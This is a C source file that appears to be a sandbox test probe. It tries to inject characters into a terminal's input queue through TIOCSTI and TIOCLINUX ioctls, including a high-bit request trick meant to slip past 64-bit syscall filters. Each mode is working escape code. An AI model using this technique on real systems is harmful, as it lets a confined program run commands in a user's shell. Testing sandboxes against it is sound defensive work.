/* Tries to push characters into the input queue of a terminal, the way a sandboxed program
 * would inject a command into the user's shell after the sandbox exits (bubblewrap
 * CVE-2017-5226). One line per attempt:
 *     <mode>: ok injected=N
 *     <mode>: errno=N (<message>) after=N
 *
 * usage: tiocsti MODE TEXT
 *   fd0       ioctl(0, TIOCSTI) for each byte of TEXT
 *   devtty    the same on a fresh open of /dev/tty (the controlling terminal)
 *   highbits  ioctl(0, TIOCSTI | 1<<32): the kernel truncates the request to 32 bits, so a
 *             filter comparing all 64 bits lets it through while the kernel still injects
 *   tioclinux ioctl(0, TIOCLINUX, {TIOCL_PASTESEL}): paste the console selection as input
 *   tioclinux_highbits  the same with bit 32 set */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/syscall.h>
#include <unistd.h>

#define HIGH_BIT (1ul << 32)
#define PROBE_TIOCL_PASTESEL 3

static int inject(const char *mode, int fd, unsigned long request, const char *text) {
    size_t n = 0;
    for (; text[n]; n++) {
        /* syscall(2), not ioctl(3): the request must reach the kernel with its high bits. */
        if (syscall(SYS_ioctl, fd, request, &text[n]) < 0) {
            printf("%s: errno=%d (%s) after=%zu\n", mode, errno, strerror(errno), n);
            return 1;
        }
    }
    printf("%s: ok injected=%zu\n", mode, n);
    return 0;
}

static int tioclinux(const char *mode, unsigned long request) {
    char subcode = PROBE_TIOCL_PASTESEL;
    if (syscall(SYS_ioctl, 0, request, &subcode) < 0) {
        printf("%s: errno=%d (%s) after=0\n", mode, errno, strerror(errno));
        return 1;
    }
    printf("%s: ok injected=1\n", mode);
    return 0;
}

int main(int argc, char **argv) {
    if (argc != 3) {
        fprintf(stderr, "usage: %s fd0|devtty|highbits|tioclinux|tioclinux_highbits TEXT\n",
                argv[0]);
        return 2;
    }
    const char *mode = argv[1], *text = argv[2];
    int rc;
    if (strcmp(mode, "fd0") == 0) {
        rc = inject(mode, 0, TIOCSTI, text);
    } else if (strcmp(mode, "highbits") == 0) {
        rc = inject(mode, 0, HIGH_BIT | TIOCSTI, text);
    } else if (strcmp(mode, "devtty") == 0) {
        int fd = open("/dev/tty", O_RDWR | O_NOCTTY | O_CLOEXEC);
        if (fd < 0) {
            printf("%s: errno=%d (%s) after=0 open\n", mode, errno, strerror(errno));
            rc = 1;
        } else {
            rc = inject(mode, fd, TIOCSTI, text);
            close(fd);
        }
    } else if (strcmp(mode, "tioclinux") == 0) {
        rc = tioclinux(mode, TIOCLINUX);
    } else if (strcmp(mode, "tioclinux_highbits") == 0) {
        rc = tioclinux(mode, HIGH_BIT | TIOCLINUX);
    } else {
        fprintf(stderr, "%s: unknown mode %s\n", argv[0], mode);
        return 2;
    }
    fflush(stdout);
    return rc;
}
